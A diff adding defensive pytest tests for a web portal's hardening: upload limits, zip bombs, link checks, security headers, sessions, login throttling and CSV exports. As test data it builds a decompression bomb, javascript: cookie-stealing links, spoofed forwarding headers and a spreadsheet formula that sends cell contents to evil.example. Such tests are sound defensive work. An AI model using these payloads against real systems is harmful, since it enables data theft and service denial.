@@ -1,0 +1,455 @@
+"""The portal as a deployment faces it (issue 29): each test is named after what it guards, and
+each failed on the code before, which the probe of the running server broke. Uploads (size,
+zip bombs, blocking), links that run script, security headers, sessions that end on the
+server, sign-in throttling that cannot be dodged or turned on the owner, spreadsheet formulas,
+numeric overflow, the referral key, server paths, secure cookies, and bursts of writes."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import statistics
+import tempfile
+import threading
+import time
+import zipfile
+from datetime import datetime
+
+import httpx
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy import func, select, text
+from sqlalchemy.orm import Session
+
+from conftest import add_listings, serve, small_programme
+from vrukit.directory.load import load_hsds
+from vrukit.directory.models import DirService
+from vrukit.errors import ConfigError, InputFileError
+from vrukit.programme.db import engine, session
+from vrukit.programme.models import Intervention, ReturnSubmission, User
+from vrukit.referrals.crypto import Keyring, write_key
+from vrukit.referrals.models import Pathway
+from vrukit.referrals.workflow import create_referral
+from vrukit.settings import get_settings
+from vrukit.web.guard import Guard
+from vrukit.web.portal.app import create_app
+from vrukit.web.portal.security import RateLimit
+from vrukit.web.server import portal_with_mounts, secret_for
+
+SECRET = "a-test-session-secret-of-forty-characters!"
+HEADER = "participant_ref,age,referred_by,engaged,sessions_attended,completed\n"
+GOOD = HEADER + "P9001,15,school,yes,4,no\nP9002,16,police,no,0,no\n"
+BOXING = ("boxing@demo.vru", "demo-provider-password")
+ANALYST = ("analyst@demo.vru", "demo-analyst-password")
+ADMIN = ("admin@demo.vru", "demo-admin-password")
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory):
+    """The demo programme with two listings: a store to copy for each test."""
+    folder = tmp_path_factory.mktemp("hardening")
+    url = small_programme(folder)
+    with Session(engine(url)) as s:
+        add_listings(s, folder)
+        s.commit()
+    return folder / "programme.sqlite"
+
+
+@pytest.fixture
+def url(base, tmp_path):
+    shutil.copy(base, tmp_path / "programme.sqlite")
+    return f"sqlite:///{tmp_path / 'programme.sqlite'}"
+
+
+def _client(url: str, **kwargs) -> TestClient:
+    kwargs.setdefault("secret_key", SECRET)
+    client_at = kwargs.pop("client", ("203.0.113.9", 50000))
+    return TestClient(create_app(url, **kwargs), client=client_at)
+
+
+def _csrf(c: TestClient, path: str = "/login") -> str:
+    m = re.search(r'name="csrf_token" value="([^"]+)"', c.get(path).text)
+    assert m, path
+    return m.group(1)
+
+
+def _login(c: TestClient, who: tuple[str, str], **headers: str) -> httpx.Response:
+    email, password = who
+    return c.post("/login", data={"email": email, "password": password,
+                                  "csrf_token": _csrf(c)},
+                  headers=headers, follow_redirects=False)  # fmt: skip
+
+
+def _sign_in(c: TestClient, who: tuple[str, str]) -> str:
+    r = _login(c, who)
+    assert r.status_code == 303, r.text[-300:]
+    return _csrf(c, "/")
+
+
+def _own_intervention(url: str) -> int:
+    with Session(engine(url)) as s:
+        u = s.scalars(select(User).where(User.email == BOXING[0])).one()
+        return s.scalars(
+            select(Intervention.id).where(Intervention.provider_id == u.organisation_id)
+        ).first()
+
+
+def _submissions(url: str) -> int:
+    with Session(engine(url)) as s:
+        return s.scalar(select(func.count()).select_from(ReturnSubmission)) or 0
+
+
+def _upload(c, token: str, iid: int, name: str, body: bytes, period: str = "2022-Q1"):
+    return c.post(f"/interventions/{iid}/returns", data={"csrf_token": token, "period": period},
+                  files={"file": (name, body, "text/csv")}, follow_redirects=False)  # fmt: skip
+
+
+# -- uploads -------------------------------------------------------------------------------------
+
+
+def test_an_upload_over_the_limit_is_refused_at_once_with_413(url):
+    c = _client(url, guard=Guard(upload_max_bytes=64 * 1024))
+    token = _sign_in(c, BOXING)
+    iid, before = _own_intervention(url), _submissions(url)
+    big = (GOOD + "P9003,15,school,yes,4,no\n" * 4000).encode()  # about 100 KB
+    r = _upload(c, token, iid, "big.csv", big)
+    assert r.status_code == 413 and "VRUKIT_UPLOAD_MAX_BYTES" in r.text
+    # a body sent in chunks, without a length, is cut off as it passes the limit
+    chunks = (b"x" * 8192 for _ in range(20))
+    form = {"content-type": "application/x-www-form-urlencoded"}  # so the server reads it
+    r = c.post("/login", content=chunks, headers=form)
+    assert r.status_code == 413
+    assert _submissions(url) == before
+    assert _upload(c, token, iid, "ok.csv", GOOD.encode()).status_code == 303
+
+
+def test_an_xlsx_that_would_inflate_past_the_limit_is_refused_unread(url):
+    c = _client(url, guard=Guard(xlsx_max_inflated_bytes=5 * 1024 * 1024))
+    token = _sign_in(c, BOXING)
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        z.writestr("xl/worksheets/sheet1.xml", b"0" * (40 * 1024 * 1024))  # 40 MB of zeros
+    assert len(buf.getvalue()) < 200_000  # a small file that would unpack to 40 MB
+    iid, before = _own_intervention(url), _submissions(url)
+    r = c.post(f"/interventions/{iid}/returns", data={"csrf_token": token, "period": "2022-Q1"},
+               files={"file": ("bomb.xlsx", buf.getvalue(), "application/zip")})  # fmt: skip
+    assert r.status_code == 422 and "unpacks to 40 MB, more than the 5 MB" in r.text
+    assert _submissions(url) == before
+
+
+def test_an_upload_does_not_hold_up_other_requests(url):
+    """While a large return is being checked, other pages answer: every one of them before the
+    upload's own answer (on the old code, an async handler parsed it on the event loop and
+    every other request waited for it)."""
+    rows = "".join(f"P{k},15,school,yes,4,no\n" for k in range(30_000))
+    app = create_app(url, secret_key=SECRET, guard=Guard(return_max_rows=1_000_000))
+    with serve(app) as root, httpx.Client(base_url=root, follow_redirects=False) as up:
+        m = re.search(r'name="csrf_token" value="([^"]+)"', up.get("/login").text)
+        assert m
+        up.post("/login", data={"email": BOXING[0], "password": BOXING[1],
+                                "csrf_token": m.group(1)})  # fmt: skip
+        token = re.search(r'name="csrf_token" value="([^"]+)"', up.get("/").text).group(1)
+        done: dict[str, float] = {}
+
+        def upload() -> None:
+            big = {"file": ("big.csv", (HEADER + rows).encode(), "text/csv")}
+            r = up.post(f"/interventions/{_own_intervention(url)}/returns",
+                        data={"csrf_token": token, "period": "2022-Q2"}, files=big)  # fmt: skip
+            done["upload"] = time.monotonic()
+            done["status"] = r.status_code
+
+        t = threading.Thread(target=upload)
+        t.start()
+        time.sleep(0.3)  # the upload is being read and checked
+        answered = []
+        with httpx.Client(base_url=root) as other:
+            for _ in range(5):
+                assert other.get("/login").status_code == 200
+                answered.append(time.monotonic())
+        t.join(300)
+    assert done["status"] == 303
+    assert max(answered) < done["upload"], "other requests waited for the upload"
+
+
+# -- links, headers --------------------------------------------------------------------------------
+
+
+def test_a_javascript_link_is_refused_by_the_form_and_the_import_and_never_shown(url, tmp_path):
+    c = _client(url)
+    token = _sign_in(c, ADMIN)  # a verifier: a change is applied at once
+    form = {"name": "Eastford Boxing", "status": "active", "minimum_age": "11",
+            "maximum_age": "18", "csrf_token": token}  # fmt: skip
+    for bad in ("javascript:alert(document.cookie)", " JaVa\tScRiPt:alert(1)", "data:text/html,x"):
+        r = c.post("/directory/services/svc-1", data=form | {"url": bad})
+        assert r.status_code == 422 and "is not a link vrukit stores" in r.text, bad
+    assert c.post("/directory/services/svc-1", data=form | {"url": "www.eastford-boxing.org"},
+                  follow_redirects=False).status_code == 303  # fmt: skip
+    with Session(engine(url)) as s:
+        assert s.get(DirService, "svc-1").url == "https://www.eastford-boxing.org"
+    data = {"organizations": [{"id": "org-1", "name": "Eastford Youth Trust",
+                               "description": "Youth clubs.", "website": "javascript:x()"}],
+            "services": []}  # fmt: skip
+    path = tmp_path / "bad.json"
+    path.write_text(json.dumps(data))
+    with session(url) as s, pytest.raises(InputFileError, match=r"organizations\[0\].*website"):
+        load_hsds(s, path)
+    # a link stored before the check (or by hand) is never offered as a link
+    with Session(engine(url)) as s:
+        s.execute(text("UPDATE dir_service SET url = 'javascript:alert(1)' WHERE id = 'svc-2'"))
+        s.commit()
+    app = portal_with_mounts(url, get_settings(), secret=SECRET, migrate=False)
+    page = TestClient(app).get("/youth-map/services/svc-2")
+    assert page.status_code == 200 and "javascript:" not in page.text
+
+
+def test_every_response_carries_security_headers_and_a_fresh_csp_nonce(url):
+    app = portal_with_mounts(url, get_settings(), secret=SECRET, migrate=False,
+                             tiles="https://{s}.tile.example.org/{z}/{x}/{y}.png")  # fmt: skip
+    c = TestClient(app)
+    nonces = []
+    for path in ("/login", "/youth-map/", "/api/services"):
+        r = c.get(path)
+        h = r.headers
+        csp = h["content-security-policy"]
+        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, path
+        assert "object-src 'none'" in csp and "'unsafe-inline'" not in csp, path
+        assert "img-src 'self' data: https://*.tile.example.org" in csp
+        assert h["x-content-type-options"] == "nosniff" and h["x-frame-options"] == "DENY"
+        assert h["referrer-policy"] == "same-origin"
+        nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
+        nonces.append(nonce)
+        if path != "/api/services":  # the pages' own style carries the nonce
+            assert f'nonce="{nonce}"' in r.text, path
+    assert len(set(nonces)) == 3
+
+
+# -- sessions ------------------------------------------------------------------------------------
+
+
+def _copy(c: TestClient, app) -> TestClient:
+    other = TestClient(app, client=("203.0.113.10", 50001))
+    other.cookies.update(c.cookies)
+    return other
+
+
+def test_logout_ends_the_session_on_the_server(url):
+    app = create_app(url, secret_key=SECRET)
+    c = TestClient(app, client=("203.0.113.9", 50000))
+    token = _sign_in(c, ANALYST)
+    kept = _copy(c, app)  # the cookie, copied before sign-out
+    assert kept.get("/returns", follow_redirects=False).status_code == 200
+    assert c.post("/logout", data={"csrf_token": token}, follow_redirects=False).status_code == 303
+    for path in ("/returns", "/referrals/export.csv"):
+        assert kept.get(path, follow_redirects=False).status_code == 303, path
+
+
+def test_a_password_change_ends_every_other_session(url):
+    app = create_app(url, secret_key=SECRET)
+    me = TestClient(app, client=("203.0.113.9", 50000))
+    token = _sign_in(me, ANALYST)
+    elsewhere = _copy(me, app)
+    r = me.post("/account/password", data={"current": ANALYST[1], "new": "a-brand-new-password",
+                                           "csrf_token": token})  # fmt: skip
+    assert r.status_code == 200 and "Your password is changed" in r.text
+    assert me.get("/returns", follow_redirects=False).status_code == 200  # this one goes on
+    assert elsewhere.get("/returns", follow_redirects=False).status_code == 303
+    fresh = TestClient(app, client=("203.0.113.11", 50002))
+    assert _login(fresh, ("analyst@demo.vru", "a-brand-new-password")).status_code == 303
+
+
+# -- sign-in throttling --------------------------------------------------------------------------
+
+
+def test_forwarded_for_is_believed_only_from_a_trusted_proxy(url):
+    limit = RateLimit(per_client=3, per_account=100, per_device=100)
+    c = _client(url, rate_limit=limit)
+    for k in range(3):  # a client rotating X-Forwarded-For is still one client
+        r = _login(c, (f"nobody{k}@x.org", "wrong-password"), **{"X-Forwarded-For": f"10.9.9.{k}"})
+        assert r.status_code == 401
+    r = _login(c, ANALYST, **{"X-Forwarded-For": "10.9.9.99"})
+    assert r.status_code == 429
+    # behind a trusted proxy, the address it appended is the client's: each is counted apart
+    proxied = _client(url, rate_limit=limit, client=("192.0.2.1", 40000),
+                      guard=Guard(trusted_proxies=("192.0.2.0/24",)))  # fmt: skip
+    for k in range(3):
+        r = _login(proxied, ("x@y.org", "wrong"), **{"X-Forwarded-For": f"1.2.3.4, 10.8.8.{k}"})
+        assert r.status_code == 401
+    assert _login(proxied, ANALYST, **{"X-Forwarded-For": "10.8.8.200"}).status_code == 303
+
+
+def test_strangers_guesses_do_not_lock_the_owner_out(url):
+    app = create_app(url, secret_key=SECRET)
+    owner = TestClient(app, client=("198.51.100.7", 1))
+    token = _sign_in(owner, ANALYST)  # the owner's browser now carries a device cookie
+    owner.post("/logout", data={"csrf_token": token})
+    attacker = TestClient(app, client=("203.0.113.66", 2))
+    for _ in range(5):
+        assert _login(attacker, (ANALYST[0], "guess-guess-guess")).status_code == 401
+    assert _login(attacker, ANALYST).status_code == 429  # the account waits, for strangers
+    assert _login(owner, ANALYST).status_code == 303  # not for its owner's browser
+
+
+def test_guessing_spread_over_accounts_is_slowed_per_client(url):
+    c = _client(url, rate_limit=RateLimit(per_client=5))
+    for k in range(5):
+        assert _login(c, (f"someone{k}@demo.vru", "password123456")).status_code == 401
+    assert _login(c, ANALYST).status_code == 429
+
+
+def test_sign_in_takes_as_long_for_an_unknown_account(url):
+    """argon2id's cost is paid for unknown e-mail addresses too (721 ms against 18 ms before)."""
+    c = _client(url, rate_limit=RateLimit(per_client=100, per_account=100))
+
+    def seconds(email: str) -> float:
+        t = time.perf_counter()
+        assert _login(c, (email, "not-the-password")).status_code == 401
+        return time.perf_counter() - t
+
+    known = statistics.median(seconds(ANALYST[0]) for _ in range(5))
+    unknown = statistics.median(seconds("no-such-person@demo.vru") for _ in range(5))
+    assert 0.5 < unknown / known < 2, (known, unknown)
+
+
+# -- what comes out ------------------------------------------------------------------------------
+
+
+def test_csv_exports_neutralise_spreadsheet_formulas(demo_region, tmp_path):
+    shutil.copy(demo_region.folder / "programme.sqlite", tmp_path / "p.sqlite")
+    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
+    keyring = Keyring.from_file(demo_region.folder / "referral.key")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with session(url) as s:
+        pathway = s.scalars(select(Pathway)).first()
+        custody = s.scalars(select(User).where(User.email == "custody@demo.vru")).one()
+        create_referral(
+            s, keyring, pathway=pathway, identity={"given_name": "Ann", "family_name": "Bee",
+            "date_of_birth": "2006-01-01"}, referring_org_id=custody.organisation_id,
+            referrer_role=formula, age=16, sex="female", consent_given=True,
+            at=datetime(2022, 5, 16, 12),
+        )  # fmt: skip
+    c = TestClient(create_app(url, secret_key=SECRET, referral_key=keyring))
+    _sign_in(c, ANALYST)
+    body = c.get("/referrals/export.csv").text
+    roles = [row["referrer_role"] for row in csv.DictReader(io.StringIO(body))]
+    assert "'" + formula in roles and formula not in roles
+
+
+def test_numeric_overflow_in_a_return_is_a_422_naming_the_cell(url):
+    c = _client(url)
+    token = _sign_in(c, BOXING)
+    iid, before = _own_intervention(url), _submissions(url)
+    for bad in ("1e400", "inf", "9" * 400, "nan"):
+        r = _upload(c, token, iid, "r.csv", (HEADER + f"P1,{bad},school,yes,4,no\n").encode())
+        assert r.status_code == 422 and "<td>2</td><td>age</td>" in r.text, bad
+    assert _submissions(url) == before
+
+
+def test_the_store_refuses_a_second_referral_key(url, tmp_path):
+    first = Keyring.from_file(write_key(tmp_path / "a.key"))
+    other = Keyring.from_file(write_key(tmp_path / "b.key"))
+    create_app(url, secret_key=SECRET, referral_key=first)
+    create_app(url, secret_key=SECRET, referral_key=first)  # the same key again: fine
+    with pytest.raises(ConfigError, match=f"fingerprint {other.fingerprint}.*{first.fingerprint}"):
+        create_app(url, secret_key=SECRET, referral_key=other)
+
+
+def test_error_pages_show_no_server_paths(url):
+    c = _client(url)
+    token = _sign_in(c, BOXING)
+    broken = {"file": ("broken.xlsx", b"PK\x03\x04 not really", "application/zip")}
+    r = c.post(f"/interventions/{_own_intervention(url)}/returns",
+               data={"csrf_token": token, "period": "2022-Q1"}, files=broken)  # fmt: skip
+    assert r.status_code == 422 and "broken.xlsx" in r.text
+    assert tempfile.gettempdir() not in r.text and "/src/vrukit" not in r.text
+
+
+def test_the_session_cookie_is_secure_behind_tls_and_the_secret_is_required(url, monkeypatch):
+    c = _client(url, guard=Guard(cookie_secure=True))
+    c.base_url = httpx.URL("https://testserver")
+    r = _login(c, ANALYST)
+    cookies = r.headers.get_list("set-cookie")
+    assert all("secure" in h.lower() and "httponly" in h.lower() for h in cookies), cookies
+    assert "max-age=31536000" in r.headers["strict-transport-security"]
+    monkeypatch.delenv("VRUKIT_SESSION_SECRET", raising=False)
+    with pytest.raises(ConfigError, match="VRUKIT_SESSION_SECRET"):
+        secret_for(get_settings())
+    monkeypatch.setenv("VRUKIT_SESSION_SECRET", "short")
+    with pytest.raises(ConfigError, match="32 or more"):
+        secret_for(get_settings())
+
+
+# -- many writers ----------------------------------------------------------------------------------
+
+
+def test_bursts_of_writes_never_fail_and_each_is_stored_before_its_redirect(url):
+    """30 providers' uploads at once (the probe: 18 HTTP 500s, 'database is locked'): every one
+    is stored, and the page it redirects to shows it at once, from another connection."""
+    app = create_app(url, secret_key=SECRET)
+    iid, before = _own_intervention(url), _submissions(url)
+    results: list[tuple[int, int]] = []
+    with serve(app) as root:
+        clients = []
+        for _ in range(30):
+            c = httpx.Client(base_url=root, follow_redirects=False, timeout=120)
+            first = re.search(r'csrf_token" value="([^"]+)', c.get("/login").text).group(1)
+            c.post("/login", data={"email": BOXING[0], "password": BOXING[1],
+                                   "csrf_token": first})  # fmt: skip
+            token = re.search(r'csrf_token" value="([^"]+)', c.get("/").text).group(1)
+            clients.append((c, token))
+        gate = threading.Barrier(30)
+
+        def one(k: int) -> None:
+            c, token = clients[k]
+            gate.wait()
+            r = c.post(f"/interventions/{iid}/returns",
+                       data={"csrf_token": token, "period": f"{2015 + k // 4}-Q{k % 4 + 1}"},
+                       files={"file": ("r.csv", GOOD.encode(), "text/csv")})  # fmt: skip
+            shown = c.get(r.headers.get("location", "/nowhere")).status_code
+            results.append((r.status_code, shown))
+
+        threads = [threading.Thread(target=one, args=(k,)) for k in range(30)]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join(300)
+        for c, _ in clients:
+            c.close()
+    assert sorted(results) == [(303, 200)] * 30
+    assert _submissions(url) == before + 30
+
+
+def test_the_referral_key_is_rotated_in_one_step_and_the_old_key_then_refused(
+    demo_region, tmp_path, monkeypatch
+):
+    from typer.testing import CliRunner
+
+    from vrukit.cli import app as cli
+    from vrukit.referrals.models import Subject
+
+    shutil.copy(demo_region.folder / "programme.sqlite", tmp_path / "p.sqlite")
+    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
+    old_file = demo_region.folder / "referral.key"
+    old, new_file = Keyring.from_file(old_file), write_key(tmp_path / "new.key")
+    with Session(engine(url)) as s:
+        sealed = s.scalars(select(Subject).where(Subject.identity.is_not(None))).first()
+        before = old.open(sealed.identity)
+        held = s.scalar(select(func.count()).select_from(Subject)
+                        .where(Subject.identity.is_not(None)))  # fmt: skip
+    monkeypatch.setenv("VRUKIT_REFERRAL_KEY_FILE", str(old_file))
+    res = CliRunner().invoke(cli, ["referrals", "rotate-key", str(new_file), "--store", url])
+    assert res.exit_code == 0, res.output
+    assert f"{held:,} subjects' details re-sealed" in " ".join(res.output.split())
+    new = Keyring.from_file(new_file)
+    with Session(engine(url)) as s:
+        again = s.get(Subject, sealed.id)
+        assert new.open(again.identity) == before
+        assert again.match_key == new.match_key(
+            before["given_name"], before["family_name"], before["date_of_birth"]
+        )
+    with pytest.raises(ConfigError, match="not the key this store"):
+        create_app(url, secret_key=SECRET, referral_key=old)
+    create_app(url, secret_key=SECRET, referral_key=new)
